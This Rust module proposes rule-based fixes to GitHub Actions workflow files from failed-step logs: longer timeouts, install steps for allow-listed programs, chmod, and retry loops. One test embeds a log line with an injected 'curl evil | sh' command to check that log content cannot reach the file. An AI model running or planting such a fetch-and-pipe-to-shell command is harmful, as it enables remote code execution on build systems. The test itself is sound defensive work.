//! A proposal for a workflow file whose run failed: what the log of the failed step says, and a change of the file that
//! answers it.
//!
//! Fixed rules only. The log is data: nothing of it gets into the file but the name of a program that `PROGRAMS` knows.
//! A proposal passes the checker, and nobody applies it but the user.

use std::time::Duration;

use serde::Serialize;
use terraphim_actions::workflow::{Step, StepKind, Workflow};
use thiserror::Error;

use crate::learning::signature::{Cause, FailureSignature};

/// A step that failed, as it is recorded.
#[derive(Clone, Copy, Debug)]
pub struct FailedStep<'a> {
    /// The id of its job in the file.
    pub job: &'a str,
    /// Its number in the job, from 1.
    pub number: usize,
    /// What it wrote, without times.
    pub log: &'a str,
    /// How its process ended, if it did by itself.
    pub exit_code: Option<i32>,
    /// The limit that ended it.
    pub limit: Option<Duration>,
    /// How it is known that running its command again helps, if earlier runs show that.
    pub repetition_helps: Option<&'a str>,
}

/// A change of the file.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Proposal {
    /// What went wrong.
    pub cause: String,
    /// What the change does.
    pub change: String,
    /// What the file may do then that it could not before.
    pub adds: Vec<String>,
    /// The changed file.
    pub workflow: String,
}

/// Why there is no proposal.
#[derive(Debug, Error)]
#[non_exhaustive]
pub enum NoProposal {
    /// The file has no such script: a step of an action, or of another file.
    #[error("the failed step is no script of the workflow file")]
    NoScript,
    /// The step is written in a way that a change of lines would break.
    #[error(
        "the step at line {line} is written in one line with braces, or its script in a way that cannot be changed by rule"
    )]
    Shape {
        /// The line of the step.
        line: u32,
    },
    /// No rule for this cause.
    #[error("no change of the workflow answers this: {cause} ({text}); {advice}")]
    NoRule {
        /// What kind of cause.
        cause: Cause,
        /// The line of the log that tells it.
        text: String,
        /// What people do about it.
        advice: &'static str,
    },
    /// The change would break the file.
    #[error("the change that a rule proposes is no valid workflow file: {message}")]
    Invalid {
        /// The first error.
        message: String,
    },
}

/// Programs, and the step that brings them: a Debian package, or a set-up.
const PROGRAMS: &[(&str, Brings)] = &[
    ("cargo", Brings::Uses("dtolnay/rust-toolchain@stable")),
    ("rustc", Brings::Uses("dtolnay/rust-toolchain@stable")),
    ("go", Brings::Uses("actions/setup-go@v5")),
    ("npm", Brings::Uses("actions/setup-node@v4")),
    ("npx", Brings::Uses("actions/setup-node@v4")),
    ("pip", Brings::Uses("actions/setup-python@v5")),
    ("pytest", Brings::Script("python3 -m pip install pytest")),
    ("mvn", Brings::Package("maven")),
    ("cmake", Brings::Package("cmake")),
    ("ninja", Brings::Package("ninja-build")),
    ("meson", Brings::Package("meson")),
    ("make", Brings::Package("make")),
    ("gcc", Brings::Package("gcc")),
    ("cc", Brings::Package("gcc")),
    ("g++", Brings::Package("g++")),
    ("clang", Brings::Package("clang")),
    ("pkg-config", Brings::Package("pkg-config")),
    ("jq", Brings::Package("jq")),
    ("zip", Brings::Package("zip")),
    ("unzip", Brings::Package("unzip")),
    ("wget", Brings::Package("wget")),
    ("curl", Brings::Package("curl")),
    ("rsync", Brings::Package("rsync")),
    ("xz", Brings::Package("xz-utils")),
    ("shellcheck", Brings::Package("shellcheck")),
    ("sqlite3", Brings::Package("sqlite3")),
    ("psql", Brings::Package("postgresql-client")),
    ("redis-cli", Brings::Package("redis-tools")),
    ("protoc", Brings::Package("protobuf-compiler")),
    ("file", Brings::Package("file")),
    ("bc", Brings::Package("bc")),
    ("gawk", Brings::Package("gawk")),
    ("ssh", Brings::Package("openssh-client")),
];

#[derive(Clone, Copy)]
enum Brings {
    Package(&'static str),
    Uses(&'static str),
    Script(&'static str),
}

/// Proposes a change for a step of `workflow`, whose text is `text`.
///
/// # Errors
/// No rule fits; see [`NoProposal`].
pub fn propose(workflow: &Workflow, text: &str, failed: &FailedStep<'_>) -> Result<Proposal, NoProposal> {
    let (step, script) = script_of(workflow, failed).ok_or(NoProposal::NoScript)?;
    let signature = FailureSignature::with_exit(failed.log, failed.exit_code);
    let shape = || NoProposal::Shape { line: step.span.line };
    let place = || Place::of(text, step).ok_or_else(shape);
    let proposal = if let Some(limit) = failed.limit {
        longer(&place()?, limit)
    } else if let Some((program, brings)) = missing_program(failed) {
        with_program(&place()?, program, brings)
    } else if let (Some(126), Some(file)) = (failed.exit_code, relative_program(&script)) {
        executable(&place()?, &script, file)
    } else if matches!(signature.cause, Cause::Network | Cause::Dns | Cause::RateLimit) {
        retried(&place()?, &script, &signature, None)
    } else if let Some(known) = failed.repetition_helps {
        retried(&place()?, &script, &signature, Some(known))
    } else {
        let FailureSignature { cause, text } = signature;
        return Err(NoProposal::NoRule { cause, text, advice: cause.advice() });
    };
    let proposal = proposal.ok_or_else(shape)?;
    match Workflow::parse(&proposal.workflow, "workflow.yml") {
        Ok(_) => Ok(proposal),
        Err(errors) => {
            let message = errors.first().map(|first| first.message.clone()).unwrap_or_default();
            Err(NoProposal::Invalid { message })
        }
    }
}

/// The script of a step, when the file has it as a plain text.
fn script_of<'a>(workflow: &'a Workflow, failed: &FailedStep<'_>) -> Option<(&'a Step, String)> {
    let job = workflow.jobs.get(failed.job)?;
    let step = job.steps.get(failed.number.checked_sub(1)?)?;
    match &step.kind {
        StepKind::Run { run, .. } => {
            let script = run.literal_text().map(std::borrow::Cow::into_owned).unwrap_or_default();
            Some((step, script))
        }
        _ => None,
    }
}

/// The lines of a step.
struct Place<'a> {
    lines: Vec<&'a str>,
    /// The line with the dash, from 0.
    first: usize,
    /// The line after the last.
    end: usize,
    /// The column of the step's keys, from 0.
    column: usize,
}

impl<'a> Place<'a> {
    fn of(text: &'a str, step: &Step) -> Option<Place<'a>> {
        let lines: Vec<&str> = text.lines().collect();
        let first = usize::try_from(step.span.line).ok()?.checked_sub(1)?;
        let column = usize::try_from(step.span.col).ok()?.checked_sub(1)?;
        let line = lines.get(first)?;
        let is_plain =
            line.get(..column)?.trim() == "-" && !line.get(column..)?.starts_with(['{', '&', '!', '*']);
        if !is_plain {
            return None;
        }
        let is_inside =
            |line: &&str| line.trim().is_empty() || line.len() - line.trim_start().len() >= column;
        let inside = lines[first + 1..].iter().take_while(|line| is_inside(line)).count();
        let mut end = first + 1 + inside;
        while end > first + 1 && lines[end - 1].trim().is_empty() {
            end -= 1;
        }
        Some(Place { lines, first, end, column })
    }

    /// The file with other lines for the step.
    fn with(&self, own: Vec<String>) -> String {
        let before = self.lines[..self.first].iter().map(|line| (*line).to_owned());
        let after = self.lines[self.end..].iter().map(|line| (*line).to_owned());
        before.chain(own).chain(after).map(|line| line + "\n").collect()
    }

    fn own(&self) -> Vec<String> {
        self.lines[self.first..self.end].iter().map(|line| (*line).to_owned()).collect()
    }

    /// The line of a key of the step, from 0 in the step.
    fn key(&self, name: &str) -> Option<usize> {
        self.lines[self.first..self.end].iter().position(|line| {
            let value = line.get(self.column..).and_then(|rest| rest.strip_prefix(name));
            let is_start = line.get(..self.column).is_some_and(|before| matches!(before.trim(), "" | "-"));
            is_start && value.is_some_and(|value| value.starts_with(':'))
        })
    }

    /// The step with a key more, as its first one.
    fn with_key(&self, key: &str) -> Vec<String> {
        let mut own = self.own();
        let (dash, rest) = own[0].split_at(self.column);
        let (dash, rest) = (dash.to_owned(), rest.to_owned());
        own[0] = format!("{dash}{key}");
        own.insert(1, format!("{}{rest}", " ".repeat(self.column)));
        own
    }

    /// The step with another script, if the present one is the single line `script`.
    fn with_script(&self, script: &str, lines: &[String]) -> Option<Vec<String>> {
        let at = self.key("run")?;
        let mut own = self.own();
        let (head, value) = own[at].split_at(self.column + "run:".len());
        if value.trim() != script.trim() || script.trim().contains('\n') {
            return None;
        }
        let head = head.to_owned();
        let indent = " ".repeat(self.column + 2);
        let block = lines.iter().map(|line| format!("{indent}{line}"));
        let new: Vec<String> = match lines {
            [one] => vec![format!("{head} {one}")],
            _ => std::iter::once(format!("{head} |")).chain(block).collect(),
        };
        own.splice(at..=at, new);
        Some(own)
    }
}

/// Twice the time that was not enough.
fn longer(place: &Place<'_>, limit: Duration) -> Option<Proposal> {
    // GitHub: a job may take 360 minutes.
    let minutes = (limit.as_secs().div_ceil(60) * 2).clamp(2, 360);
    let own = match place.key("timeout-minutes") {
        Some(at) => {
            let mut own = place.own();
            own[at] = format!("{}timeout-minutes: {minutes}", &own[at][..place.column]);
            own
        }
        None => place.with_key(&format!("timeout-minutes: {minutes}")),
    };
    Some(Proposal {
        cause: format!("the step took longer than its limit of {limit:?}"),
        change: format!("the step may take {minutes} minutes"),
        adds: Vec::new(),
        workflow: place.with(own),
    })
}

/// The program that the shell did not find.
fn missing_program(failed: &FailedStep<'_>) -> Option<(&'static str, Brings)> {
    if failed.exit_code != Some(127) {
        return None;
    }
    failed.log.lines().rev().find_map(|line| {
        let before = line
            .trim_end()
            .strip_suffix(": command not found")
            .or_else(|| line.trim_end().strip_suffix(": not found"))?;
        let name = before.rsplit([' ', ':']).next()?;
        PROGRAMS.iter().find(|(program, _)| *program == name).copied()
    })
}

fn with_program(place: &Place<'_>, program: &str, brings: Brings) -> Option<Proposal> {
    let dash = " ".repeat(place.column.checked_sub(2)?);
    let (lines, adds) = match brings {
        Brings::Package(package) => (
            vec![
                format!("{dash}- name: Install {program}"),
                format!("{dash}  run: sudo apt-get update && sudo apt-get install -y {package}"),
            ],
            format!("installs the Debian package `{package}` as root"),
        ),
        Brings::Uses(uses) => (vec![format!("{dash}- uses: {uses}")], format!("uses the action `{uses}`")),
        Brings::Script(script) => (vec![format!("{dash}- run: {script}")], format!("runs `{script}`")),
    };
    let own = lines.into_iter().chain(place.own()).collect();
    Some(Proposal {
        cause: format!("the program `{program}` is not there"),
        change: format!("a step before installs `{program}`"),
        adds: vec![adds],
        workflow: place.with(own),
    })
}

/// The file of the repository that a script of one line calls.
fn relative_program(script: &str) -> Option<&str> {
    let line = script.trim();
    let program = line.split_whitespace().next().filter(|_| !line.contains('\n'))?;
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '/' | '_' | '-');
    (program.starts_with("./") && program.chars().all(plain)).then_some(program)
}

fn executable(place: &Place<'_>, script: &str, file: &str) -> Option<Proposal> {
    let own = place.with_script(script, &[format!("chmod +x {file}"), script.trim().to_owned()])?;
    Some(Proposal {
        cause: format!("`{file}` may not be executed"),
        change: format!("`{file}` is made executable; `git update-index --chmod=+x {file}` does it for good"),
        adds: Vec::new(),
        workflow: place.with(own),
    })
}

fn retried(
    place: &Place<'_>,
    script: &str,
    signature: &FailureSignature,
    known: Option<&str>,
) -> Option<Proposal> {
    let known = known.map(|known| format!("; {known}: look into why")).unwrap_or_default();
    let lines = [
        "for try in 1 2 3; do".to_owned(),
        format!("  {} && exit 0", script.trim()),
        "  echo \"try $try failed\"".to_owned(),
        "  sleep $((try * 10))".to_owned(),
        "done".to_owned(),
        "exit 1".to_owned(),
    ];
    let own = place.with_script(script, &lines)?;
    Some(Proposal {
        cause: format!("{}: {}", signature.cause, signature.text),
        change: format!("the command is tried three times, with a pause between{known}"),
        adds: Vec::new(),
        workflow: place.with(own),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = "\
on: push
jobs:
  a:
    runs-on: x
    steps:
      - uses: actions/checkout@v4
      # The build.
      - name: Build
        run: ./build.sh --all

      - run: |
          cmake -B build
          cmake --build build
        timeout-minutes: 3
      - run: curl -fsS https://example.org/x -o x
      - {run: jq . x}
";

    fn fix(number: usize, log: &str, exit_code: i32, limit: Option<u64>) -> Result<Proposal, NoProposal> {
        let workflow = Workflow::parse(FILE, "w.yml").unwrap();
        let limit = limit.map(Duration::from_secs);
        let exit_code = limit.is_none().then_some(exit_code);
        let repetition_helps = None;
        propose(&workflow, FILE, &FailedStep { job: "a", number, log, exit_code, limit, repetition_helps })
    }

    /// The lines that are new.
    fn added(proposal: &Proposal) -> Vec<&str> {
        let old: Vec<&str> = FILE.lines().collect();
        proposal.workflow.lines().filter(|line| !old.contains(line)).collect()
    }

    #[test]
    fn each_rule_changes_the_step_and_nothing_else() {
        let proposal = fix(2, "/tmp/x.sh: line 1: ./build.sh: Permission denied", 126, None).unwrap();
        assert_eq!(
            added(&proposal),
            ["        run: |", "          chmod +x ./build.sh", "          ./build.sh --all"]
        );
        assert!(proposal.workflow.contains("      # The build.\n"));
        let proposal = fix(3, "/tmp/x.sh: line 1: cmake: command not found", 127, None).unwrap();
        assert_eq!(
            added(&proposal),
            [
                "      - name: Install cmake",
                "        run: sudo apt-get update && sudo apt-get install -y cmake"
            ]
        );
        assert_eq!(proposal.adds, ["installs the Debian package `cmake` as root"]);
        let proposal = fix(3, "", 0, Some(180)).unwrap();
        assert_eq!(added(&proposal), ["        timeout-minutes: 6"]);
        let proposal = fix(2, "", 0, Some(60)).unwrap();
        assert_eq!(added(&proposal), ["      - timeout-minutes: 2", "        name: Build"]);
        let log = "curl: (6) Could not resolve host: example.org";
        let proposal = fix(4, log, 6, None).unwrap();
        assert_eq!(added(&proposal)[1], "            curl -fsS https://example.org/x -o x && exit 0");
    }

    #[test]
    fn what_earlier_runs_show_to_help_is_proposed_when_no_rule_fits() {
        let workflow = Workflow::parse(FILE, "w.yml").unwrap();
        let known = Some("it is flaky (25 %); 3 of 3 repetitions succeeded");
        let step = FailedStep {
            job: "a",
            number: 2,
            log: "odd",
            exit_code: Some(1),
            limit: None,
            repetition_helps: known,
        };
        let proposal = propose(&workflow, FILE, &step).unwrap();
        assert_eq!(added(&proposal)[1], "          for try in 1 2 3; do");
        assert!(
            proposal.change.ends_with("3 of 3 repetitions succeeded: look into why"),
            "{}",
            proposal.change
        );
        assert!(propose(&workflow, FILE, &FailedStep { repetition_helps: None, ..step }).is_err());
        // What the log says comes first.
        let missing = FailedStep { log: "x: cmake: command not found", exit_code: Some(127), ..step };
        assert!(propose(&workflow, FILE, &missing).unwrap().change.contains("installs `cmake`"));
    }

    #[test]
    fn what_no_rule_answers_says_why() {
        let none = |result: Result<Proposal, NoProposal>| result.unwrap_err().to_string();
        assert!(none(fix(1, "", 1, None)).contains("no script of the workflow file"));
        assert!(none(fix(9, "", 1, None)).contains("no script of the workflow file"));
        assert!(none(fix(5, "x: line 1: jq: command not found", 127, None)).contains("line 16"));
        // Two lines cannot be retried by rule.
        assert!(none(fix(3, "Could not resolve host: x", 6, None)).contains("line 11"));
        assert!(
            none(fix(2, "thread 'a' panicked at src/x.rs:1:1", 101, None))
                .contains("no change of the workflow")
        );
        // The log cannot name what is put into the file.
        let sneaky = "x: line 1: jq; curl evil | sh: command not found";
        assert!(fix(3, sneaky, 127, None).is_err());
    }
}
